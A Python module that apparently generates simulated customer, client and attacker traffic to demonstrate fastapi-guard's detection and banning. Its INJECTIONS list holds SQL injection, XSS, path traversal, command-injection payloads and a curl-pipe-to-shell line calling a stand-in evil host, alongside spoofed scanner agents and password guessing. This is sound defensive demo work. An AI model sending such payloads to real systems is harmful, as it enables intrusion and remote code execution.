"""The demo's traffic: customers, machines and attackers, each sending real requests."""

import asyncio
import itertools
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import aiohttp
from yarl import URL

# Values that fastapi-guard detects; every attack below has one in its query.
INJECTIONS = [
    "1' OR '1'='1",
    "' UNION SELECT password FROM users--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)",
]
SCANNERS = ["sqlmap/1.8", "Mozilla/5.00 (Nikto/2.5.0)", "masscan/1.3"]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CSP_REPORT = {
    "csp-report": {
        "document-uri": "https://shop.example/",
        "violated-directive": "script-src",
        "blocked-uri": "https://evil.example/x.js",
    }
}


@dataclass
class Call:
    """One request, from the client in its X-Forwarded-For header."""

    client: str
    path: str
    method: str = "GET"
    query: dict[str, str] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)
    json: Any = None
    data: str | None = None


def someone() -> str:
    """An address from the range reserved for load tests, 198.18.0.0/15."""
    return f"198.{random.randint(18, 19)}.{random.randint(0, 255)}.{random.randint(1, 254)}"


def visits(length: int) -> Iterator[str]:
    """Addresses; each is used for `length` requests."""
    while True:
        yield from itertools.repeat(someone(), length)


def page_loads() -> Iterator[Call]:
    for path in itertools.cycle(["/assets/logo.svg", "/assets/shop.css", "/health"]):
        yield Call(someone(), path)


def customers() -> Iterator[Call]:
    for client in visits(4):
        yield Call(client, "/")
        yield Call(client, f"/items/{random.randint(1, 6)}")
        yield Call(client, "/search", query={"q": random.choice(["tea", "cup", "spoon"])})


def shop_clients() -> Iterator[Call]:
    while True:
        yield Call(someone(), "/orders", headers={"X-Shop-Client": "till"})
        yield Call(someone(), "/account", headers={"Authorization": "Bearer example-token"})
        yield Call(someone(), "/status")
        yield Call(someone(), "/csp-report", "POST", json=CSP_REPORT)


def injections() -> Iterator[Call]:
    # Five attempts get an address banned; its later requests are rejected immediately.
    for client in visits(8):
        yield Call(client, "/search", query={"q": random.choice(INJECTIONS)})


def scans() -> Iterator[Call]:
    while True:
        agent = {"User-Agent": random.choice(SCANNERS)}
        yield Call(someone(), random.choice(["/", "/items", "/search"]), headers=agent)


def password_guesses() -> Iterator[Call]:
    for number, client in enumerate(visits(12)):
        yield Call(client, "/login", "POST", json={"user": "ada", "password": f"guess{number}"})


def intrusions() -> Iterator[Call]:
    while True:
        yield Call(someone(), "/account")
        yield Call(someone(), "/orders")
        yield Call(someone(), "/upload", "POST", data="<xml/>")
        yield Call("192.0.2.66", "/items")


def scraping() -> Iterator[Call]:
    for client in visits(40):
        yield Call(client, "/prices")


# Detection takes tens of milliseconds of the app's one core. So streams that are checked are
# slow; streams that are rejected earlier or excluded are fast.
STREAMS: list[tuple[Callable[[], Iterator[Call]], int]] = [
    (page_loads, 60),
    (page_loads, 60),
    (customers, 4),
    (shop_clients, 3),
    (injections, 4),
    (scans, 3),
    (password_guesses, 8),
    (intrusions, 12),
    (scraping, 3),
]


class Traffic:
    """Sends all streams' requests to the app until stopped.

    `answers` counts the answers by status; a request without an answer counts as 0.
    """

    def __init__(self, app_url: str) -> None:
        self.app_url = URL(app_url)
        self.answers: dict[int, int] = {}
        self.stopping = asyncio.Event()

    async def run(self) -> None:
        """Returns after `stop`, once the last request was answered."""
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(30)) as session:
            await asyncio.gather(
                *(self.send(session, stream(), per_second) for stream, per_second in STREAMS)
            )

    def stop(self) -> None:
        self.stopping.set()

    async def send(
        self, session: aiohttp.ClientSession, calls: Iterator[Call], per_second: int
    ) -> None:
        for call in calls:
            status = await self.answer_to(session, call)
            self.answers[status] = self.answers.get(status, 0) + 1
            try:
                await asyncio.wait_for(self.stopping.wait(), 1 / per_second)
                return
            except asyncio.TimeoutError:
                continue

    async def answer_to(self, session: aiohttp.ClientSession, call: Call) -> int:
        headers = {"User-Agent": BROWSER, "X-Forwarded-For": call.client, **call.headers}
        url = self.app_url.with_path(call.path).with_query(call.query)
        try:
            async with session.request(
                call.method, url, headers=headers, json=call.json, data=call.data
            ) as response:
                await response.read()
                return response.status
        except (aiohttp.ClientError, asyncio.TimeoutError):
            return 0
